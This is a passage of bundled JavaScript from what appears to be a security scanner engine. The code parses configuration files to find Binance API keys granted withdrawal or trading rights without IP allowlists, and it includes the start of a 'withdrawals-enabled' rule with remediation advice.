];
/** Rights by their bare names, where something else says that a key’s rights are told. */
const bare$1 = [
	["withdraw", /^withdraw(?:al)?s?$/],
	["transfer", /^(?:universal|internal|funds?)?transfers?$/],
	["margin", /^margin(?:trading)?$/],
	["futures", /^(?:usdm|coinm|um|cm)?futures?(?:trading)?$|^delivery$/],
	["options", /^(?:vanilla|european)?options?(?:trading)?$/],
	["trade", /^(?:spot|trad(?:e|ing)|spottrading|spotandmargintrading)$/],
	["read", /^(?:read(?:ing|only)?|view|info)$/]
];
/** What the rights of a key stand under. */
const permissionStep = /^(?:api|key|apikey)?(?:permissions?|perms?|rights?|scopes?|capabilities|grants?|restrictions?|access|privileges?)$/;
const listOfRights = /(?:permissions?|perms|rights?|scopes?|capabilities|privileges?|grants)$/;
const enumOfRights = /\b\w*(?:Permission|Right|Scope|Privilege)s?(?:\.|::)(\w+)/g;
/** By its name, by that of what it stands in, or by the enumeration that its items are of. */
function isListOfRights({ name, path, value, span }, text) {
	if (listOfRights.test(name)) return true;
	if (value.kind === "text" && /^\d+$/.test(path.at(-1) ?? "")) return listOfRights.test(folded(path.at(-3) ?? ""));
	if (value.kind === "text" || value.kind === "scalar" || span.end - span.start > 4e3) return false;
	const source = text.slice(span.start, span.end);
	if (listOfRights.test(folded(path.at(-2) ?? "")) && /^(?:\[|\{\s*["'])/.test(source)) return true;
	return new Set([...source.matchAll(enumOfRights)].map(([, word]) => rightOf(word))).size >= 2 && !/^\{/.test(source);
}
function listsByName(settings, text) {
	let byName;
	const known = /* @__PURE__ */ new Map();
	return (name) => {
		let listed = known.get(name);
		if (listed) return listed;
		if (!byName) {
			byName = /* @__PURE__ */ new Map();
			for (const setting of settings) require_gates.addToGroup(byName, setting.name, setting);
		}
		const rights = /* @__PURE__ */ new Set();
		let deepest = 0;
		let items = 0;
		for (const setting of byName.get(name) ?? []) {
			deepest = Math.max(deepest, setting.path.length);
			for (const word of wordsOf(setting, text)) {
				items += 1;
				const right = rightOf(word.text);
				if (right) rights.add(right);
			}
		}
		known.set(name, listed = {
			rights,
			items,
			deepest
		});
		return listed;
	};
}
/** `permissions: [read, withdraw]`, `"read,withdraw"`, `listOf(Right.READ)`. */
function listedGrants(setting, { rights, items, deepest }, isKeys, text) {
	const { value, path } = setting;
	if (deepest > path.length || isVocabulary(setting, items, text)) return [];
	if (rights.size < 2 && !isKeys) return [];
	const words = wordsOf(setting, text);
	return words.flatMap(({ text: word, start, end }) => {
		const right = rightOf(word);
		if (!right) return [];
		const inSource = value.kind !== "text" ? {
			start,
			end
		} : require_worth_reading.sourceSpan(value, {
			start,
			end
		});
		return [{
			right,
			called: calledOf(setting),
			span: value.kind === "text" && words.length === 1 ? setting.span : inSource
		}];
	});
}
/** More items than a key has rights: the words that a program knows. */
const mostRights = 8;
/** `const permissions = ['read', 'withdraw'] as const`: what there is, not what is given. */
function isVocabulary({ path, span }, items, text) {
	if (items > mostRights) return true;
	if (/known|max(?:imum)?(?:perm|right|scope)|valid|supported|available|choices|allpermissions|vocabulary/.test(folded(path.join(".")))) return true;
	return /^[^;\n]{0,200}\]\s*(?:as const|satisfies\b)/.test(text.slice(span.end - 1, span.end + 220));
}
const longestText = 300;
/** The words of a text, by their places in it; of a list in source, the texts and names there, by theirs in the source. */
function wordsOf({ value, span }, text) {
	if (value.kind === "text") {
		const words = value.text.length <= longestText ? partsOf$1(value.text) : [];
		return isSentence(words, value.text) ? [] : words;
	}
	if (value.kind === "scalar" || span.end - span.start > 4e3) return [];
	if (/\b(?:true|false)\b|^\{[^}]*[:=]/i.test(text.slice(span.start, span.end))) return [];
	return [...text.slice(span.start, span.end).matchAll(/(["'])([\w .-]{1,60})\1|(?<![\w:]):[A-Za-z_]\w*|[A-Za-z_][\w.:]*/g)].map((match) => {
		const start = span.start + match.index;
		return {
			text: match[2] ?? match[0].split(/[.:]+/).at(-1),
			start,
			end: start + match[0].length
		};
	});
}
/** `Leave “Enable Withdrawals” off: the bot never withdraws.` Few of its words are rights, and blanks part them. */
function isSentence(words, text) {
	if (words.length < 5 || !/\w\s+\w+\s+\w/.test(text)) return false;
	return words.filter(({ text: word }) => rightOf(word) !== void 0).length * 2 < words.length;
}
function rightOf(word) {
	const name = folded(word).replace(/^(?:api|key)?(?:perm(?:ission)?s?|rights?|scopes?)(?=.)/, "");
	return rightNamed(name, strong) ?? rightNamed(name, bare$1);
}
function rightNamed(name, rights) {
	return rights.find(([, pattern]) => pattern.test(name))?.[0];
}
// ../engine/dist/risks/settings/groups.js
/** Which settings are one key’s: those that stand beside each other, and the permissions that they hold. */
const credential = /^(?:.*(?:api|access|secret)_?(?:key|secret)(?:id)?|key|secret|label|apilabel|keylabel|fingerprint)$/;
const keyStep = /key|binance|exchange|account|credential|restriction|permission|^api$/i;
/** Calls that ask for what they are given. */
const asking$1 = /^(?:where|filter|filter_?by|find\w*|exists|exclude|rewhere|not|count|query|select|assert\w*|expect\w*|\w*equals?|to_?be|to_?equal|includes?|contains?|has|then_?return|will_?return|mock(?:return|resolved)value(?:once)?)$/i;
const ipNames = new Map([...[
	"restrict",
	"restricted",
	"enabled",
	"enforced",
	"status"
].map((name) => [name, "iprestrict"]), ...[
	"list",
	"addresses",
	"entries",
	"allowed",
	"whitelist",
	"allowlist",
	"values",
	"allow",
	"ip",
	"address",
	"item"
].map((name) => [name, "iplist"])]);
const ipHolder = /^(?:allowed|trusted|permitted)?ips?(?:restrictions?|(?:white|allow)list|list|access|filter)?$/;
const ipItself = /^ip(?:s|addresses)?$/;
/** Permissions are settings of what holds them: `key: { permissions: { withdraw: true }, ip: [] }` is one group. */
function groupsOf({ settings, reading }) {
	const holderOf = holdersIn(reading);
	const groups = /* @__PURE__ */ new Map();
	/** The groups of an owner, in their order. */
	const homes = /* @__PURE__ */ new Map();
	const latest = /* @__PURE__ */ new Map();
	const elementOf = reading.language === "xml" ? elements() : void 0;
	const inner = [];
	const put = (id, setting) => {
		const group = groups.get(id) ?? {
			settings: [],
			isKeys: false
		};
		groups.set(id, group);
		group.settings.push(setting);
		return group;
	};
	for (const one of settings) {
		if (one.name === "") continue;
		const whole = heldBy(one, holderOf);
		const given = entryOfList(dotted(whole));
		const at = given.path.findLastIndex((step) => !/^\d*$/.test(step));
		const above = folded(given.path[at - 1] ?? "");
		const higher = folded(given.path[at - 2] ?? "");
		const depth = ipHolder.test(above) ? 1 : /^ips?$/.test(higher) && ipHolder.test(higher + above) ? 2 : 0;
		const isIp = depth > 0 || /^(?:trusted|allowed|permitted|(?:white|allow)listed)$/.test(above) && ipItself.test(given.name);
		const isSwitch = /^withdraw(?:al)?s?$/.test(above) && /^(?:enabled?|allow(?:ed)?)$/.test(given.name);
		const name = isIp ? depth === 0 ? "iplist" : ipNames.get(given.name) ?? given.name : isSwitch ? "withdrawenabled" : given.name;
		const setting = {
			...given,
			name
		};
		const steps = given.path.slice(0, isIp || isSwitch ? at - Math.max(1, depth) : at);
		const parent = given === whole ? steps : whole.path.slice(0, Math.max(0, whole.path.length - 1 - (given.path.length - 1 - at)));
		const call = setting.call ? String(setting.call.span.start) : "";
		const isItem = at < setting.path.length - 1;
		const isPermission = permissionStep.test(folded(steps.at(-1) ?? ""));
		if (isPermission && given === whole) {
			const owner = `${call}|${parent.slice(0, -1).join("\0")}`;
			inner.push({
				setting,
				owner: elementOf ? `${owner}|${elementOf(owner, whole)}` : owner
			});
			continue;
		}
		const held = `${call}|${parent.join("\0")}`;
		const owner = elementOf ? `${held}|${elementOf(held, whole)}` : held;
		const isAlone = parent.length === 0 || one.via === "entry" && one.call !== void 0;
		const id = isItem ? latest.get(owner) ?? `${owner}|` : `${owner}|${isAlone ? String(setting.container) : ""}`;
		const own = homes.get(owner) ?? /* @__PURE__ */ new Set();
		homes.set(owner, own);
		if (!own.has(id)) latest.set(owner, id);
		own.add(id);
		const group = put(id, setting);
		if (isPermission || credential.test(setting.name) || parent.some((step) => keyStep.test(step))) group.isKeys = true;
	}
	for (const { setting, owner } of inner) {
		const group = put(latest.get(owner) ?? `${owner}|`, setting);
		group.isKeys = true;
	}
	return [...groups.values()];
}
/** Of elements that have one path, as keys beside each other have, which one a setting is of: told by what comes again. */
function elements() {
	const seen = /* @__PURE__ */ new Map();
	return (owner, { path, container }) => {
		const own = seen.get(owner) ?? {
			containers: /* @__PURE__ */ new Map(),
			count: 0
		};
		seen.set(owner, own);
		const place = path.join("\0");
		const before = own.containers.get(place);
		if (before !== void 0 && before !== container) {
			own.count += 1;
			own.containers.clear();
		}
		own.containers.set(place, container);
		return String(own.count);
	};
}
const ofAddress = /^(?:ip|ip_?addr(?:ess)?|addr(?:ess)?|value|cidr)$/i;
/** `ip_whitelist: [{ ip: …, note: … }]` and `ip_whitelist: { home: … }` list what `ip_whitelist: […]` does. */
function entryOfList(setting) {
	const { path, value } = setting;
	if (value.kind !== "text" || path.length < 2 || /^\d*$/.test(path.at(-1))) return setting;
	const at = path.findLastIndex((step, i) => i < path.length - 1 && !/^\d*$/.test(step));
	const holder = folded(path[at] ?? "");
	if (!ipList.test(holder) || !(ofAddress.test(path.at(-1)) ? at < path.length - 2 : isAddress(value.text))) return setting;
	return {
		...setting,
		path: [...path.slice(0, at + 1), "0"],
		name: holder
	};
}
/** `a.b`, `a.b[0]`, `A__0` */
const properties = /^[\w-]+(?:(?:\.[\w-]+)+(?:\[\d{1,4}\])?|\[\d{1,4}\]|__\d{1,4})$/;
/** Of `api.permissions.withdraw`, as properties are written, each step; of `ips[0]` and `IPS__0` the number too. */
function dotted(setting) {
	if (!setting.path.some((step) => /[.[]|__\d/.test(step))) return setting;
	const path = setting.path.flatMap((step) => properties.test(step) ? step.match(/[\w-]+?(?=__\d+$)|\d+$|[\w-]+/g) : [step]);
	return {
		...setting,
		path,
		name: folded(path.findLast((one) => !/^\d*$/.test(one)) ?? "")
	};
}
const deepestCalls = 4;
/** `rights = dict(withdraw=True)` is `rights.withdraw`. */
function heldBy(setting, holderOf) {
	let one = setting;
	for (let depth = 0; one.call && depth < deepestCalls && !/^\d*$/.test(one.path.at(-1) ?? ""); depth += 1) {
		if (asking$1.test(one.call.callee.at(-1) ?? "") || isOfKeyMethod(one.call)) break;
		const holder = holderOf(one.call);
		if (!holder) break;
		if (holder.call && asking$1.test(holder.call.callee.at(-1) ?? "")) return {
			...one,
			call: holder.call
		};
		const { call: _, ...rest } = one;
		one = {
			...rest,
			path: [...holder.path, ...one.path],
			...holder.call && { call: holder.call }
		};
	}
	return one;
}
const keyEndpoint = new RegExp(`(?:${keyEndpoints.map(({ path }) => path).join("|")})$`, "i");
/** What such a call is given is unsafe-key-creation’s. */
function isOfKeyMethod(call) {
	const name = folded(call?.callee.at(-1) ?? "");
	if ((name.includes("key") || name.includes("restriction")) && keyMethods.some((one) => one.name.test(name))) return true;
	return call?.args.slice(0, 8).some(({ value }) => value.kind === "text" && keyEndpoint.test(value.text.slice(-200))) ?? false;
}
// ../engine/dist/risks/settings/form-state.js
/** Settings with which a page’s form, or the state of an app, begins: they are of no key until somebody fills them in. */
/** `defaultState`, `DEFAULT_FORM`, `initialValues`, `keyForm`, `formData`, `BinanceKeyState`. Not `platform`. */
const stateNames = [
	/^(?:default|initial|init|empty|blank)_?(?:\w{0,30}_?)?(?:state|form|values|data|inputs?|model|draft)$/i,
	/^(?:form|FORM)$|_(?:form|FORM)$|[a-z0-9]Form$|(?:^|_|[a-z0-9](?=F))form_?(?:state|data|values|fields|model|defaults)$/,
	/(?:^form|[a-z0-9]Form)(?:State|Data|Values|Fields|Model|Defaults)$/,
	/^[A-Z]\w{0,60}[a-z](?:State|ViewModel)$/
];
/** What begins a form or a state, in the frameworks of pages and apps. */
const makers = "use(?:State|Reducer|Ref|Immer|SetState|Form|Formik|Reactive|LegacyState)|(?:shallow)?[rR]eactive|ref|shallowRef|\\$state|writable|signal|createSignal|createStore|createMutable|atom|observable|defineStore|setState|mutableStateOf|MutableStateFlow|BehaviorSubject|ValueNotifier";
const type = "(?:<[^()]{0,200}>)?";
/** What stands before the mapping. */
const head = new RegExp(`(?:${[
	`(?<![\\w.])(?:[A-Za-z]\\w{0,20}\\.)?(?:${makers})${type}\\(\\s*(?:[\\w.'"-]{1,60}\\s*,\\s*)?(?:(?:async\\s+)?\\(?\\s*\\w*(?:\\s*,\\s*\\w+){0,3}\\s*\\)?\\s*=>\\s*\\(?\\s*)?`,
	`(?<![\\w.])create${type}\\(?\\)?\\(\\s*(?:\\w{1,30}\\(\\s*)?\\(?\\s*set\\b[\\w\\s,]{0,40}\\)?\\s*=>\\s*\\(?\\s*`,
	`\\b(?:state|data)\\s*[:=]?\\s*(?:function\\s*)?\\(\\s*\\)\\s*(?::\\s*\\w{1,40}\\s*)?(?:=>\\s*\\(?\\s*|(?:=>\\s*)?\\{\\s*return\\s*\\(?\\s*)`
].join("|")})$`);
const longestHead = 300;
const known$3 = /* @__PURE__ */ new WeakMap();
/** Whether the setting is what a form or a state begins with. Only of programs and pages. */
function isOfForm({ path, container, call }, subject) {
	const { language } = subject.reading;
	if (!(language in languages) && language !== "markup" || language === "python") return false;
	if (filledIn(subject).has(container)) return false;
	if ((call ? [...path.slice(0, -1), call.callee.at(-1) ?? ""] : path.slice(0, -1)).some((step) => stateNames.some((form) => form.test(step)))) return true;
	let begins = known$3.get(subject);
	if (!begins) known$3.set(subject, begins = /* @__PURE__ */ new Map());
	let is = begins.get(container);
	if (is === void 0) begins.set(container, is = beginsState(subject.document.text, container));
	return is;
}
const filled$1 = /* @__PURE__ */ new WeakMap();
/** The mappings in which a key stands, or what it is read from: a form begins with none. */
function filledIn(subject) {
	let containers = filled$1.get(subject);
	if (!containers) {
		const keys = subject.settings.filter(({ path, value }) => isKeyName(path.at(-1) ?? "") && (value.kind === "text" ? value.text.trim().length > 15 : value.kind === "ref" || value.kind === "unknown"));
		filled$1.set(subject, containers = new Set(keys.map(({ container }) => container)));
	}
	return containers;
}
function beginsState(text, container) {
	return text.charAt(container) === "{" && head.test(text.slice(Math.max(0, container - longestHead), container));
}
// ../engine/dist/risks/settings/owner-of.js
/** What a setting is of: the mapping or class that has it, or what is made with it. Not whose it is. */
const pythonClass = /^class[ \t]{1,4}(\w{1,80})/gm;
const known$2 = /* @__PURE__ */ new WeakMap();
/** Their names: of `main = KeyRights(…)` both; none where it is of nothing. */
function ownersOf({ path, call, container, via, span }, subject) {
	const { text } = subject.document;
	const owners = [path.findLast((step, i) => i < path.length - 1 && !/^\d*$/.test(step)) ?? call?.callee.at(-1), /[({]/.test(text.charAt(container)) ? /(\w{1,80})\s{0,2}$/.exec(text.slice(Math.max(0, container - 90), container))?.[1] : void 0].filter((one) => one !== void 0);
	return owners.length > 0 || via !== "assign" ? owners : classAt(span.start, subject);
}
/** Fields of a class of Python have no path. */
function classAt(at, subject) {
	const { text, path } = subject.document;
	if (!path.endsWith(".py") || !/^[ \t]/.test(text.slice(require_worth_reading.lineStart(text, at, 400), at))) return [];
	let classes = known$2.get(subject);
	if (!classes) known$2.set(subject, classes = [...text.matchAll(pythonClass)]);
	const all = classes;
	return all[countBefore(all.length, (i) => all[i].index < at) - 1]?.slice(1, 2) ?? [];
}
// ../engine/dist/risks/settings/key-settings.js
/**
* Settings of a document → what they say of each API key: its rights, its IP list, its kind. Names are those of Binance’s
* own endpoints (apiRestrictions, sub-account, broker and Link keys) and of the configuration of bots, in every style of
* writing. Source: docs/facts.md; https://developers.binance.com/docs/wallet/account/api-key-permission.
*/
/** Endpoints and fields of Binance’s API, as it writes them. */
const binances = /^(?:permitsUniversalTransfer|enableInternalTransfer|enableVanillaOptions|enableSpotAndMarginTrading|enablePortfolioMarginTrading|enableFixApiTrade|enableFixReadOnly|ipRestrict|tradingAuthorityExpirationTime)$/;
/** Lists of others, whoever’s they are called: who may open the bot’s pages and databases, and peers of a network. */
const surelyOthers = /dashboard|admin|login|nginx|firewall|cors|webhook|ssh|metrics|grafana|redis|postgres|mysql|mongo|database|vpn|wireguard|ingress|telegram|prox(?:y|ies)|^peers?$|^wg\d?$|cloudflare|waf$|^ddos|guard|middleware|framework|telescope|horizon|sidekiq|resque|celery|^flower|^oban|rabbit_?mq|pghero|flipper|prometheus|kibana|elastic|jenkins|traefik|haproxy|apache|caddy|portainer|jupyter|sentry|zabbix|netdata|swagger|graphi?ql|actuator|smtp|kafka|mqtt|amqp|memcache|bastion|security_?group|back_?office|ip_?filter|rack_?attack|rate_?limit|throttl|limiter|defender|management/i;
/** Lists of others, where nothing says Binance: the bot’s own ports. */
const others = /dashboard|admin|web(?!socket)|login|server|http|\bui\b|proxy|proxies|nginx|firewall|cors|webhook|ssh|metrics|grafana|redis|postgres|mysql|mongo|database|\bdb\b|vpn|wireguard|ingress|network|docker|router|host|telegram|bind|listen|listener|callback|internal_?ips|gateway|session|health|queue|monitoring|status_?page|debug|console|panel|staff|office|scrape|exporter|user(?:s|name)?_?(?:allow|white)/i;
const addressSwitch = /(?:withdraw(?:al)?)?(?:address)(?:white|allow)list(?:ed|only|enabled)?$|withdraw(?:al)?(?:white|allow)list(?:ed|only|enabled)?$/;
const typeName = /(?<!(?:public|ssh|host|pgp|gpg|license|map|cache))key(?:type|algo|algorithm|kind)$|^(?:api|binance)?(?:auth|sign|signature)type$|^signing(?:type|method|algorithm)$/;
const bareType = /^(?:type|kind|alg|algo|algorithm|signature|signing|signer|signingmethod|signmethod|auth|authtype|authmethod|scheme)$/;
/** What else is signed by HMAC: `jwt: { key_type: … }`. */
const ofTokens = /jwt|jws|session|cookie|csrf|webhook|oauth|oidc|saml|licen[cs]e/i;
const hmac = /^(?:key_?type_?)?hmac(?:[-_]?sha[-_]?256)?$/i;
/** What a form, a page or a message shows, and what an API’s description says, is no key’s right. */
const notKeys = /^(?:notif\w*|alerts?|emails?|mail|events?|hooks?|webhooks?|menu|pages?|routes?|tabs?|features?|ui|views?|columns?|display|show|reports?|logs?|logging|history|metrics|roles?|staff|examples?|schemas?|enum|fixtures?|mocks?|expected|has|supports?|maintenance|match|when|term|limits?|cache|fetch|import|download|sync|export|include|system|status|vaults?|pools?|contracts?|staking|monitor\w*|watch\w*|(?:initial|empty|blank)(?:[A-Z_]\w*)?)$/i;
/** What is traded, not what a key may do: only names that are strong of their own are heard there. */
const ofMarkets = /^(?:markets?|streams?|feeds?|instruments?|symbols?|pairs?)$/i;
/** What an exchange, or a client of one, can do at all: `FEATURES`, `supportedMarkets`. There too only strong names are heard. */
const ofFeatures = /(?:^|_)(?:features?|supports?|supported|FEATURES?|SUPPORTS?|SUPPORTED)$|[a-z](?:Features?|Supports|Supported)$/;
/** Beside rights it tells that these are the methods of a client, as ccxt lists them. */
const ofMethods = /^(?:fetch|create|cancel|edit|watch|close)(?:order|balance|ticker|deposit|withdraw|ledger|trade|position|market|my|ohlcv|funding|open|closed|all|currenc)/;
/** Whose `canWithdraw` is a key’s, where the answer about an account has it too. */
const ofKeys = /key|polic(?:y|ies)|permission|rights$|restriction|privilege|scopes?$/i;
/** What a policy forbids, and what a query or a test looks for, is not given. */
const forbidding = /^alert|^notif|^warn|^bad$|^worst|^risky|^demo(?!binance)|^sample|^mock|^fake|^dummy|^example|^monitor|^watch|^track|forbid|forbidden|den(?:y|ied)|disallow|refus|block|illegal|danger|unsafe|revoke|missing|invalid|exclud|never|notallowed|unwanted/;
const watching = /^(?:monitor|watch|track)\w{0,12}$/i;
/** A switch of what is told of a list, and of what looks at it. */
const aboutLists = /^(?:binance)?(?:report|audit|log(?!in)|check|verif|validat|show|display|print|has|support|mock|skip|ignore|alert|notif|warn|monitor|watch|track|export|metric|stat)/;
/** A map of coins and their networks, and a product of savings, have rights of their own. */
const ofCoins = /^(?:can|is|all)?deposit|^networklist$|^withdrawall|^can(?:purchase|redeem)$|^(?:product|project|position)id$/;
const known$1 = /* @__PURE__ */ new WeakMap();
/** One entry for each key that the document has settings of; worked out once for each document. */
function keysIn(subject) {
	let keys = known$1.get(subject);
	if (!keys) known$1.set(subject, keys = (isAnswer(subject) ? [] : groupsOf(subject)).map((group) => settingsOf(group, subject)).filter(isAny));
	return keys;
}
/** What a program’s tests hold is what the API may answer, and what is expected of that: no key of anybody’s. Nor has a contract or a schema one. */
function isAnswer({ document: { path }, reading: { language } }) {
	return language in languages && isOfTests(path) || /\.(?:sol|vy|cairo|move|proto|graphqls?|gql|thrift|avsc)$/.test(path);
}
/**
* What a risk of a key’s setting has besides: in prose it is at most possible, and a field that only Binance has is a
* clue. `isField`: the setting itself may be one.
*/
function toldOf({ isBinances }, { isProse }, isField = false) {
	const says = isField ? "it is a field of Binance’s API, or stands beside one" : "a field beside it is one of Binance’s API";
	return {
		...isProse && { confidence: "possible" },
		...isBinances && { clues: [clue("binance-setting", says)] }
	};
}
const isAny = ({ grants, ips, weakTypes }) => grants.length > 0 || ips.length > 0 || weakTypes.length > 0;
/** The first argument of `updateMany({ withdraw: true }, …)` says which are meant. */
function isWhichToChange({ call, path }) {
	return path[0] === "0" && /^(?:update|delete|remove|replace|find)\w{0,12}(?:one|many)\w{0,12}$/i.test(call?.callee.at(-1) ?? "");
}
/** `ipRestrict: true` says that there is a list, which then is kept elsewhere where the one beside it is empty. */
function withoutContrary(ips) {
	return ips.some(({ state, entries }) => state === "on" && entries.length === 0) ? ips.filter(({ state }) => state === "on") : ips;
}
/** What a call asks for a sub-account’s key is unsafe-key-creation’s too. */
function isRequest(settings) {
	return settings.some(({ name }) => name === "subaccountapikey") && settings.some(({ name }) => name === "status");
}
/** `dashboard.allowed_ips`, also within what is Binance’s; `server.allowed_ips` where it is not. */
function isOfOthers$1({ path, call, span }, isOfKey, subject) {
	const names = call ? [
		...path,
		...call.callee,
		...call.args.slice(0, 3).flatMap(({ value }) => nameIn(value))
	] : [...path, ...configuredAt(span.start, subject)];
	if (names.some((step) => surelyOthers.test(step))) return true;
	return !isOfKey && names.some((step) => others.test(step)) && !names.some((step) => /binance/i.test(step));
}
/** What a first argument names: `config :desk, Oban.Web, allowed_ips: …` */
function nameIn(value) {
	if (value.kind === "ref") return value.path;
	return value.kind === "text" && value.text.length <= 60 ? [value.text] : [];
}
/** `ip` stands beside a key or its rights, not beside a port. */
function isOfKeyAlone(settings) {
	return settings.some(({ name }) => credential.test(name) && !/label$/.test(name) || listOfRights.test(name) || ipSwitch.test(name) || strong.some(([, pattern]) => pattern.test(name))) && !settings.some(({ name }) => /^(?:port|host|hostname|mac|user|username)$/.test(name));
}
/** Several addresses are a list, whatever the name says. */
function isSeveral(value) {
	return value.kind === "text" && value.text.length < 2e3 && partsOf$1(value.text).filter((one) => isAddress(one.text)).length > 1;
}
/** What asks a request for its address, and what opens a firewall. */
const asksAddress = /remote_?(?:ip_?)?addr|\breq(?:uest)?(?:\(\))?\.(?:ip|connection|socket|client|remote)|client_?ip\b|x-forwarded-for|x-real-ip|peername|ip_?filter|\bufw\b|iptables|\bnft\b|\bipset\b|security_?group/i;
const askers = /* @__PURE__ */ new WeakMap();
/** `if request.remote_addr not in ALLOWED_IPS`: a list by which the program itself lets others in. */
function isOfServer({ path, via }, subject) {
	if (via !== "assign" && !/^\d+$/.test(path.at(-1) ?? "") || path.some((step) => /binance|api_?key/i.test(step))) return false;
	let asks = askers.get(subject);
	if (asks === void 0) askers.set(subject, asks = asksAddress.test(subject.document.text));
	return asks;
}
function settingsOf({ settings, isKeys: told }, subject) {
	const grants = [];
	const lists = /* @__PURE__ */ new Map();
	const weakTypes = [];
	let addressList;
	const isOfCoins = settings.some(({ name }) => ofCoins.test(name));
	const strongly = settings.some(({ name }) => strong.some(([, pattern]) => pattern.test(name)) || ipSwitch.test(name) || ipList.test(name));
	const isKeys = told || strongly && !isOfCoins;
	const isOfOneKey = isOfKeyAlone(settings);
	const listed = listsByName(settings, subject.document.text);
	const isChoice = choicesIn(settings);
	const isOfClient = settings.some(({ name }) => ofMethods.test(name));
	const tellsTrading = settings.some(({ name }) => name === "cantrade");
	const isHeld = settings.some(({ name }) => credential.test(name) && !/label$/.test(name));
	const isRestricted = settings.some((one) => ipSwitch.test(one.name) || ipList.test(one.name));
	for (const setting of settings) {
		const { name, value, span, path } = setting;
		const isPermission = permissionStep.test(folded(path.findLast((step, i) => i < path.length - 1 && !/^\d*$/.test(step)) ?? ""));
		const isOfKey = isHeld && (ipSwitch.test(name) || ipList.test(name));
		if (isOfOthers$1(setting, isOfKey, subject)) continue;
		if (isOfForm(setting, subject)) continue;
		if (!isOfKey && path.slice(0, -1).some((step) => notKeys.test(step))) continue;
		if (path.some((step) => !(isOfKey && watching.test(step)) && forbidding.test(folded(step)))) continue;
		if (asking$1.test(setting.call?.callee.at(-1) ?? "") || isWhichToChange(setting)) continue;
		if (ipSwitch.test(name) || ipList.test(name) || ipOpen.test(name) || isKeys && ipBare.test(name) && (!ipOfOne.test(name) || isOfOneKey || isSeveral(value))) {
			if (isOfKeyMethod(setting.call) || !told && isOfServer(setting, subject) || aboutLists.test(name)) continue;
			require_gates.addToGroup(lists, name, setting);
			continue;
		}
		if (addressSwitch.test(name)) addressList = switched(value);
		if ((typeName.test(name) || isKeys && bareType.test(name)) && hmac.test(lastWord(value))) {
			if (!path.some((step) => ofTokens.test(step)) && !isChoice(setting) && !isOfCallers(setting, settings, subject)) weakTypes.push({
				called: calledOf(setting),
				span
			});
			continue;
		}
		if (isListOfRights(setting, subject.document.text)) {
			for (const grant of listedGrants(setting, listed(setting.name), isKeys, subject.document.text)) grants.push(grant);
			continue;
		}
		const bareName = isPermission || isRestricted ? name.replace(/^(?:can|is|has)/, "") : name;
		const isMarkets = isOfClient || ofMarkets.test(path.at(-2) ?? "") || path.slice(0, -1).some((step) => ofFeatures.test(step));
		const isOwn = tellsTrading && /^can/.test(name) && ownersOf(setting, subject).some((one) => ofKeys.test(one));
		const byName = rightNamed(name, strong) ?? (isKeys && !isMarkets ? rightNamed(bareName, bare$1) : void 0) ?? (isOwn ? rightNamed(name.slice(3), bare$1) : void 0);
		if (byName && switched(value) === "on" && !isOfCoins) grants.push({
			right: byName,
			called: calledOf(setting),
			span
		});
	}
	const hasRights = grants.length > 0 || settings.some(({ name, value }) => /^can\w*trad|^trad(?:e|ing)$/.test(name) && switched(value) === "on");
	grants.sort((a, b) => a.span.start - b.span.start);
	return {
		grants,
		ips: isRequest(settings) ? [] : withoutContrary([...lists.values()].flatMap((list) => ipSettingOf(list, hasRights, subject))).filter(({ state }) => state === "on" || !isBlankForm(settings, subject)),
		isTradingOff: settings.some(({ name, value }) => trading$1.test(name) && switched(value) === "off"),
		addressList,
		weakTypes,
		isBinances: settings.some(({ path }) => binances.test(path.at(-1) ?? ""))
	};
}
const trading$1 = /^(?:can|is|may|enabled?|allow(?:ed)?|permit)?(?:spot(?:andmargin)?)?trad(?:e|ing)(?:enabled|allowed)?$/;
/** `{ apiKey: '', ipWhitelist: [] }` of a program is how a form begins: no key is there that could have a list. */
function isBlankForm(settings, { reading: { language } }) {
	if (!(language in languages) && language !== "markup") return false;
	const held = settings.filter(({ name, value }) => /(?:key|secret|token)$/.test(name) && value.kind !== "unknown");
	return held.length > 0 && held.every(({ value }) => /^(?:null|none|nil|undefined|)$/i.test(lastWord(value).trim()));
}
/** What a value is, by its last word: `KeyType.HMAC`, `"HMAC"`. */
function lastWord(value) {
	return value.kind === "ref" ? value.path.at(-1) ?? "" : wordOf(value) ?? "";
}
/** One of several values of a name is a choice: `keyType: 'HMAC' | 'RSA'`. */
function choicesIn(settings) {
	let places;
	return ({ path }) => {
		if (!places) {
			places = /* @__PURE__ */ new Map();
			for (const other of settings) require_gates.addToSet(places, other.path.join("\0"), other.span.start);
		}
		return (places.get(path.join("\0"))?.size ?? 0) > 1;
	};
}
const definition = /\b(?:func\s{0,9}\([^()\n]{0,80}\)|func|fn|fun|function|def|constructor)[^\n(]{0,80}\(([^()]{0,600})\)/g;
const longestDefinition = 2500;
/** The secret beside it is what callers hand to the function: a library’s default says nothing of their keys. */
function isOfCallers({ span, container }, settings, subject) {
	const { text } = subject.document;
	const beside = settings.find((one) => one.container === container && /secret(?:key)?$/.test(one.name));
	if (beside?.value.kind !== "ref" || beside.value.path.length !== 1) return false;
	return ([...text.slice(Math.max(0, span.start - longestDefinition), span.start).matchAll(definition)].at(-1)?.[1]?.match(/[A-Za-z_$]\w*/g) ?? []).includes(beside.value.path[0]);
}
// ../engine/dist/rules/withdrawals-enabled.js
/** Settings that let a key withdraw. Code that calls a withdrawal is fund-moving-call’s. */
const withdrawalsEnabled = {
	id: "withdrawals-enabled",
	title: "API key that may withdraw",
	severity: "high",
	finds: "A setting that gives an API key the right to withdraw, in the fields of Binance’s own endpoints or in a bot’s configuration: `enableWithdrawals: true`, `permissions: [read, trade, withdraw]`. Without an IP list or an address whitelist beside it, it is critical.",
	why: "With this right, whoever has the key and its secret can send the coins away, and nobody can call them back. Hardly any bot needs it. Binance gives the right only to keys with an IP list, so a setting that says “withdraw” and “no IP list” is wrong about one of the two, or is about an account that is not protected as it should be.",
	advice: [
		"Switch “Enable Withdrawals” off for this key in Binance’s API Management, and take the right out of the configuration.",
		"If something really has to withdraw, give it a key of its own that does nothing else, with an IP list and with the withdrawal address whitelist switched on.",
		"Remember that trading rights alone are enough to empty an account by bad trades: keep the IP list in any case."
	],
	references: ["https://developers.binance.com/docs/wallet/account/api-key-permission", "https://www.binance.com/en/support/faq/how-to-create-api-keys-on-binance-360002502072"],
	*look(subject) {
		for (const key of keysIn(subject)) {
			const { grants, ips, addressList } = key;
			const unrestricted = ips.some(({ state }) => state === "off");
			for (const { right, called, span } of grants) {
				if (right !== "withdraw") continue;
				yield {
					span,
					name: called,
					message: `${called} lets this API key withdraw${unrestricted ? " and has no IP list, which Binance does not allow: one of the two is not true" : addressList === "off" ? " to any address: the address whitelist is off" : ""}`,
